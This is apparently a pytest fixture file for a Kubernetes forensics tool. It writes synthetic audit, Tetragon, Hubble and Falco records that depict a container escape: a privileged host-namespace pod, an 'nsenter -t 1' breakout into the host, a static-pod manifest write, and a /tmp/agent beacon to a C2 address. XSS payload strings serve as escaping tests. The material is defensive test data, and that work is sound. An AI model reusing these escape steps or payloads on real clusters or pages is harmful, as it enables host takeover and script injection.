"""A small container-escape case written as raw upstream records and ingested like real evidence.

Story (T0 = 2026-03-01T10:00:00Z): alice, from 203.0.113.5, creates the privileged pod
``default/priv`` (T+10 s), execs ``/bin/bash`` into it (T+60 s), runs ``nsenter -t 1 -m -u -n -i -p
bash`` (T+70 s), writes a static-pod manifest (T+80 s); ``/tmp/agent`` beacons to 198.51.100.9:443
(T+120 s ...).  Noise: node leases every 10 s and DNS lookups from ``shop/web-1``.  The pod
``shop/<img src=x onerror=alert(1)>`` runs ``<script>alert(1)</script>`` to prove escaping.
"""

from __future__ import annotations

import base64
from pathlib import Path

import orjson
import pandas as pd
import pytest

T0 = pd.Timestamp("2026-03-01T10:00:00Z")
NODE = "node-1"
PRIV_CID = "ab" * 32
WEB_CID = "cd" * 32
XSS_POD = "<img src=x onerror=alert(1)>"
XSS_ARG = "<script>alert(1)</script>"


def iso(seconds: float) -> str:
    return (T0 + pd.Timedelta(seconds=seconds)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def xid(pid: int) -> str:
    return base64.b64encode(f"{NODE}:{1000 + pid}:{pid}".encode()).decode()


def audit(n: int, t: float, verb: str, user: str, resource: str, ns: str | None, name: str | None, code: int,
          *, sub: str | None = None, ip: str = "10.0.0.11", uri: str = "", obj: dict | None = None,
          ua: str = "kubelet/v1.30.0", stage: str = "ResponseComplete") -> dict:
    rec = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": f"audit-{n}",
           "stage": stage, "requestURI": uri or f"/api/v1/namespaces/{ns}/{resource}/{name or ''}",
           "verb": verb, "user": {"username": user, "groups": ["system:authenticated"]}, "sourceIPs": [ip],
           "userAgent": ua, "objectRef": {"resource": resource, "namespace": ns, "name": name, "apiVersion": "v1"},
           "responseStatus": {"metadata": {}, "code": code}, "requestReceivedTimestamp": iso(t),
           "stageTimestamp": iso(t + 0.01), "annotations": {"authorization.k8s.io/decision": "allow",
                                                           "authorization.k8s.io/reason": ""}}
    if sub:
        rec["objectRef"]["subresource"] = sub
    if obj is not None:
        rec["level"] = "Request"
        rec["requestObject"] = obj
    return rec


def proc(pid: int, ppid: int, binary: str, args: str, t: float, *, pod: str | None, ns: str = "default",
         cid: str = PRIV_CID, host: bool = False, uid: int = 0) -> dict:
    p = {"exec_id": xid(pid), "pid": pid, "uid": uid, "cwd": "/root" if host else "/", "binary": binary,
         "arguments": args, "flags": "execve clone", "start_time": iso(t), "auid": 4294967295,
         "parent_exec_id": xid(ppid), "docker": cid[:31]}
    if pod is not None:
        p["pod"] = {"namespace": ns, "name": pod, "container": {"id": f"containerd://{cid}", "name": "c",
                    "image": {"id": "docker.io/library/ubuntu@sha256:" + "0" * 64, "name": "docker.io/library/ubuntu:22.04"}},
                    "pod_labels": {"app": pod}}
    if host:
        p["ns"] = {k: {"inum": 4026531840 + i, "is_host": True} for i, k in enumerate(("mnt", "pid", "net"))}
    return p


def exec_ev(t: float, p: dict, parent: dict) -> dict:
    return {"process_exec": {"process": p, "parent": parent}, "node_name": NODE, "time": iso(t)}


def exit_ev(t: float, p: dict, parent: dict, status: int = 0) -> dict:
    return {"process_exit": {"process": p, "parent": parent, "status": status}, "node_name": NODE, "time": iso(t)}


def kprobe(t: float, p: dict, parent: dict, fn: str, arg: dict) -> dict:
    return {"process_kprobe": {"process": p, "parent": parent, "function_name": fn, "args": [arg],
                               "action": "KPROBE_ACTION_POST"}, "node_name": NODE, "time": iso(t)}


def flow(t: float, src: dict, dst: dict, sport: int, dport: int, verdict: str = "FORWARDED", dns: str | None = None) -> dict:
    f = {"time": iso(t), "verdict": verdict, "IP": {"source": src["ip"], "destination": dst["ip"], "ipVersion": "IPv4"},
         "l4": {"UDP" if dns else "TCP": {"source_port": sport, "destination_port": dport}},
         "source": {k: v for k, v in src.items() if k != "ip"}, "destination": {k: v for k, v in dst.items() if k != "ip"},
         "Type": "L7" if dns else "L3_L4", "node_name": NODE, "traffic_direction": "EGRESS", "is_reply": False}
    if dns:
        f["l7"] = {"type": "REQUEST", "dns": {"query": dns, "qtypes": ["A"]}}
    return {"flow": f, "node_name": NODE, "time": iso(t)}


def write_escape_evidence(folder: Path) -> Path:
    """Write the raw evidence files of the story above into ``folder`` and return it."""
    folder.mkdir(parents=True, exist_ok=True)
    pod_obj = {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "priv", "namespace": "default"},
               "spec": {"nodeName": NODE, "hostPID": True, "hostNetwork": True,
                        "containers": [{"name": "c", "image": "ubuntu:22.04", "securityContext": {"privileged": True}}]}}
    a = [audit(i, 10 * i, "update", f"system:node:{NODE}", "leases", "kube-node-lease", NODE, 200) for i in range(1, 60)]
    a += [audit(100, 10, "create", "alice", "pods", "default", "priv", 201, ip="203.0.113.5", ua="kubectl/v1.30.0",
                uri="/api/v1/namespaces/default/pods", obj=pod_obj),
          audit(101, 60, "create", "alice", "pods", "default", "priv", 101, sub="exec", ip="203.0.113.5",
                ua="kubectl/v1.30.0", stage="ResponseStarted",
                uri="/api/v1/namespaces/default/pods/priv/exec?command=%2Fbin%2Fbash&container=c&stdin=true&tty=true"),
          audit(102, 300, "get", "mallory", "pods", "shop", XSS_POD, 200, ip="198.51.100.7", ua=XSS_ARG)]
    shim = {"exec_id": xid(50), "pid": 50, "binary": "/usr/bin/containerd-shim-runc-v2", "arguments": "-id x",
            "start_time": iso(0), "parent_exec_id": xid(1)}
    init = proc(100, 50, "/bin/sleep", "infinity", 11, pod="priv")
    bash = proc(101, 50, "/bin/bash", "", 61, pod="priv")
    nsenter = proc(102, 101, "/usr/bin/nsenter", "-t 1 -m -u -n -i -p bash", 70, pod="priv")
    hbash = proc(103, 102, "/bin/bash", "", 71, pod="priv", host=True)
    tee = proc(104, 103, "/usr/bin/tee", "/etc/kubernetes/manifests/kube-proxy-x.yaml", 80, pod="priv", host=True)
    agent = proc(105, 103, "/tmp/agent", "--c2 198.51.100.9:443 --token=s3cr3tvalue", 120, pod="priv", host=True)
    web = proc(200, 50, "/usr/bin/python3", "app.py", 5, pod="web-1", ns="shop", cid=WEB_CID)
    xss = proc(201, 200, "/bin/sh", f"-c {XSS_ARG}", 200, pod=XSS_POD, ns="shop", cid=WEB_CID, uid=1000)
    t = [exec_ev(11, init, shim), exec_ev(5, web, shim), exec_ev(61, bash, shim), exec_ev(70, nsenter, bash),
         kprobe(70.5, nsenter, bash, "__x64_sys_setns", {"int_arg": 3}), exec_ev(71, hbash, nsenter),
         exec_ev(80, tee, hbash), kprobe(80.1, tee, hbash, "security_file_permission",
                                          {"file_arg": {"path": "/etc/kubernetes/manifests/kube-proxy-x.yaml"}}),
         exit_ev(81, tee, hbash), exec_ev(120, agent, hbash), exec_ev(200, xss, web)]
    t += [kprobe(125 + 30 * i, agent, hbash, "tcp_connect",
                 {"sock_arg": {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP",
                               "saddr": "10.0.0.11", "daddr": "198.51.100.9", "sport": 40000 + i, "dport": 443}})
          for i in range(10)]
    host = {"ip": "10.0.0.11", "identity": 1, "labels": ["reserved:host"]}
    world = {"ip": "198.51.100.9", "identity": 2, "labels": ["reserved:world"]}
    webep = {"ip": "10.244.1.5", "identity": 300, "namespace": "shop", "pod_name": "web-1", "labels": ["k8s:app=web"]}
    dns = {"ip": "10.96.0.10", "identity": 400, "namespace": "kube-system", "pod_name": "coredns-1",
           "labels": ["k8s:k8s-app=kube-dns"]}
    h = [flow(125 + 30 * i, host, world, 40000 + i, 443) for i in range(10)]
    h += [flow(20 + 5 * i, webep, dns, 50000 + i, 53, dns="db.shop.svc.cluster.local.") for i in range(30)]
    h += [flow(400, webep, world, 41000, 22, verdict="DROPPED")]
    f = [{"time": iso(61.5), "rule": "Terminal shell in container", "priority": "Notice", "source": "syscall",
          "hostname": NODE, "output": "A shell was spawned in a container (user=root shell=bash)",
          "tags": ["container", "shell"], "output_fields": {"container.id": PRIV_CID[:12], "k8s.ns.name": "default",
                                                            "k8s.pod.name": "priv", "proc.cmdline": "bash",
                                                            "proc.name": "bash", "proc.pname": "runc"}},
         {"time": iso(200.5), "rule": "Run shell untrusted", "priority": "Critical", "source": "syscall",
          "hostname": NODE, "output": f"shell {XSS_ARG}", "tags": ["shell"],
          "output_fields": {"k8s.ns.name": "shop", "k8s.pod.name": XSS_POD, "proc.cmdline": f"sh -c {XSS_ARG}",
                            "proc.name": "sh"}}]
    for name, recs in (("audit.jsonl", a), ("tetragon.jsonl", t), ("hubble.jsonl", h), ("falco.jsonl", f)):
        (folder / name).write_bytes(b"\n".join(orjson.dumps(r) for r in recs) + b"\n")
    return folder


@pytest.fixture(scope="session")
def escape_evidence(tmp_path_factory) -> Path:
    return write_escape_evidence(tmp_path_factory.mktemp("evidence") / "escape")


@pytest.fixture
def case(tmp_path, escape_evidence):
    from kubeforensics import Case

    c = Case.create(tmp_path / "case")
    rep = c.ingest([escape_evidence], progress=False)
    assert rep.totals["quarantined"] == 0, rep.to_json()
    return c
